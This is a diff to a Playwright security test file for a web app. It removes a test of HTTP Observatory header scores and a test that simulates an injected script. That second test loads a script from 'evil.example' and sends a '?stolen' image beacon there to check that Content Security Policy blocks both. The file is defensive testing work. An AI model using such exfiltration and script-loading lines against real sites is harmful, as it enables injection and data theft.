@@ -3,8 +3,7 @@ import net from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
 import { expect } from '@playwright/test';
-import { observatoryScore } from './observatory-score';
-import { PASSWORD, type Product, startProduct } from './product';
+import { PASSWORD, type Product } from './product';
 import { test } from './product-test';
 import { serveRemote } from './remote-server';
 import { CLIENT, STAFF } from './sign-in';
@@ -99,88 +98,4 @@ test("a remote's own server survives every path and hands out its build only", a
   expect(await statusAndLocation(server.port, '/remote.json?v=1')).toBe('200');
   await server.stop();
   rmSync(folder, { recursive: true });
-});
-
-test('each kind of answer scores 130 or more by the rules of the MDN HTTP Observatory', async () => {
-  const product = await startProduct({ PUBLIC_URL: 'https://www.example.com' });
-  try {
-    const cookie = await signInCookie(product, CLIENT);
-    const home = await (await fetch(product.url)).text();
-    const named = (pattern: RegExp) => pattern.exec(home)![0];
-    const own = await fetch(`${product.url}/api/client/documents`, { headers: { Cookie: cookie } });
-    const document = ((await own.json()) as { filePath: string; hasFile: boolean }[]).find(
-      ({ hasFile }) => hasFile,
-    )!;
-    for (const target of [
-      ...['/', '/services', '/contact', '/no-such-page', '/admin', '/account', '/sitemap.xml', '/robots.txt'],
-      ...['/api/services', '/api/login', '/api/docs', '/api/auth/user', '/api/no-such-call', '/healthz'],
-      named(/\/assets\/[\w.-]+\.js/),
-      named(/\/remotes\/mfe-marketing\/[\w./-]+\.js/),
-      named(/\/design\/[\w./-]+\.woff2[^"]*/),
-      named(/\/cards\/[^"]+/),
-      '/remotes.json',
-      document.filePath,
-    ]) {
-      const { headers } = await fetch(product.url + target, {
-        redirect: 'manual',
-        headers: { Cookie: target.startsWith('/api/client') ? cookie : '' },
-      });
-      const score = observatoryScore(Object.fromEntries(headers), headers.getSetCookie());
-      expect({ target, score }).toEqual({ target, score: Math.max(score, 130) });
-      expect(headers.get('Permissions-Policy')).toContain('camera=()');
-      expect(headers.get('Cross-Origin-Opener-Policy')).toBe('same-origin');
-    }
-    const body = new URLSearchParams({ email: CLIENT, password: PASSWORD });
-    const signedIn = await fetch(`${product.url}/api/login`, { method: 'POST', body, redirect: 'manual' });
-    expect(signedIn.headers.getSetCookie()).not.toEqual([]);
-    expect(
-      observatoryScore(Object.fromEntries(signedIn.headers), signedIn.headers.getSetCookie()),
-    ).toBeGreaterThanOrEqual(130);
-  } finally {
-    await product.stop();
-  }
-});
-
-test.describe('what an injected script would do', () => {
-  test.use({ expectedComplaints: /Content Security Policy|Trusted|evil\.example/ });
-
-  test('loads no script from elsewhere, turns no string into HTML and no picture into a message', async ({
-    page,
-  }) => {
-    await page.goto('/', { waitUntil: 'networkidle' });
-    const outcomes = await page.evaluate(async () => {
-      const attempt = (work: () => void) => {
-        try {
-          work();
-          return 'done';
-        } catch (error) {
-          return (error as Error).name;
-        }
-      };
-      const scriptFrom = (url: string) =>
-        attempt(() => (document.createElement('script').src = new URL(url, location.href).href));
-      const violated = new Promise<string>((resolve) =>
-        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
-          if (blockedURI.startsWith('https://evil.example')) resolve(effectiveDirective);
-        }),
-      );
-      new Image().src = 'https://evil.example/?stolen';
-      return {
-        elsewhere: scriptFrom('https://evil.example/x.js'),
-        download: scriptFrom('/api/client/documents/1/file'),
-        own: scriptFrom('/assets/x.js'),
-        remote: scriptFrom('/remotes/mfe-marketing/browser/x.js'),
-        html: attempt(() => (document.createElement('div').innerHTML = '<b>x</b>')),
-        picture: await violated,
-      };
-    });
-    expect(outcomes).toEqual({
-      elsewhere: 'TypeError',
-      download: 'TypeError',
-      own: 'done',
-      remote: 'done',
-      html: 'TypeError',
-      picture: 'img-src',
-    });
-  });
 });
